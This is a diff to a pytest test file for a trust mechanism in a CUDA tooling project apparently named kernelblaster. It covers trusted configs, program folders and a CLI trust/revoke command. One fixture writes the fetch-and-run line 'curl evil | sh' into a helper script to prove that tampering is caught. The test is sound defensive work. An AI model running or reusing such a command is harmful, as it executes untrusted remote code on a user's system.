@@ -11,8 +11,13 @@ import sys
 
 import pytest
 
-from kernelblaster.settings import SettingsError, UntrustedConfigError, load_settings
-from kernelblaster.trust import allow_list_path, trust
+from kernelblaster.settings import (
+    SettingsError,
+    UntrustedConfigError,
+    config_references,
+    load_settings,
+)
+from kernelblaster.trust import allow_list_path, folder_trusted, trust
 
 
 @pytest.fixture(autouse=True)
@@ -56,7 +61,7 @@ def test_other_settings_need_no_trust(tmp_path):
 
 def test_trust_holds_for_the_file_as_trusted_and_ends_with_an_edit(tmp_path):
     repo = _repo(tmp_path, 'nvcc = "/opt/cuda/bin/nvcc"\n')
-    trust(repo / "kernelblaster.toml", [])
+    trust(repo / "kernelblaster.toml", [], [])
     assert load_settings(repo, environ={}).nvcc == "/opt/cuda/bin/nvcc"
     (repo / "kernelblaster.toml").write_text('nvcc = "/tmp/evil"\n')
     with pytest.raises(UntrustedConfigError):
@@ -72,6 +77,7 @@ def test_a_corrupt_trust_list_is_reported_not_ignored(tmp_path):
 
 
 def test_a_broken_pyproject_of_another_project_above_is_passed_over(tmp_path):
+    (tmp_path / ".git").mkdir()  # the repository's root: its own pyproject.toml is read
     (tmp_path / "pyproject.toml").write_text("[project\nname = 'someone else'\n")
     (tmp_path / "work").mkdir()
     assert load_settings(tmp_path / "work", environ={}).rollouts == 4
@@ -128,9 +134,39 @@ def test_a_named_link_pointed_elsewhere_after_trust_needs_trust_again(tmp_path):
     for name in ("gcc-a", "gcc-b"):
         (repo / "tools" / name).write_text(f"#!/bin/sh\n# {name}\n")
     (repo / "tools" / "cc").symlink_to("gcc-a")
-    trust(repo / "kernelblaster.toml", [repo / "tools" / "cc"])
+    trust(repo / "kernelblaster.toml", [repo / "tools" / "cc"], [])
     assert load_settings(repo, environ={}).nvcc_flags == ["-ccbin", "tools/cc"]
     (repo / "tools" / "cc").unlink()
     (repo / "tools" / "cc").symlink_to("gcc-b")
     with pytest.raises(UntrustedConfigError, match="-ccbin, tools/cc"):
         load_settings(repo, environ={})
+
+
+def test_a_trusted_program_folder_is_covered_with_everything_below_it(tmp_path):
+    """`-ccbin tools`: a program there may run its neighbours, in folders below it too; a link
+    back into the folder is not followed twice."""
+    repo = _repo(tmp_path, 'nvcc_flags = ["-ccbin", "tools"]\n')
+    (repo / "tools" / "lib").mkdir(parents=True)
+    (repo / "tools" / "gcc").write_text('#!/bin/sh\nexec "$(dirname "$0")/lib/run.sh" "$@"\n')
+    (repo / "tools" / "lib" / "run.sh").write_text('#!/bin/sh\nexec gcc "$@"\n')
+    (repo / "tools" / "lib" / "loop").symlink_to("..")
+    named, places = config_references(repo / "kernelblaster.toml", repo)
+    assert named == [repo / "tools"] and places == []
+    trust(repo / "kernelblaster.toml", named, places)
+    assert load_settings(repo, environ={}).nvcc_flags == ["-ccbin", "tools"]
+    (repo / "tools" / "lib" / "run.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(UntrustedConfigError, match="-ccbin, tools"):
+        load_settings(repo, environ={})
+
+
+def test_the_cli_trusts_a_folder_for_the_language_server_and_revokes_it(tmp_path):
+    """A folder with no configuration file is still one the user may trust to run kernels in."""
+    folder = tmp_path / "kernels"
+    folder.mkdir()
+    said = _cli(folder, "trust")
+    assert said.returncode == 0 and f"trusted: {folder}/" in said.stdout
+    assert folder_trusted(folder) and folder_trusted(folder / "deeper")
+    assert not folder_trusted(tmp_path) and not folder_trusted(tmp_path / "kernels-other")
+    assert f"{folder}/ (workspace folder)" in _cli(folder, "trust", "--list").stdout
+    assert f"revoked: {folder}/" in _cli(folder, "trust", "--revoke").stdout
+    assert not folder_trusted(folder)
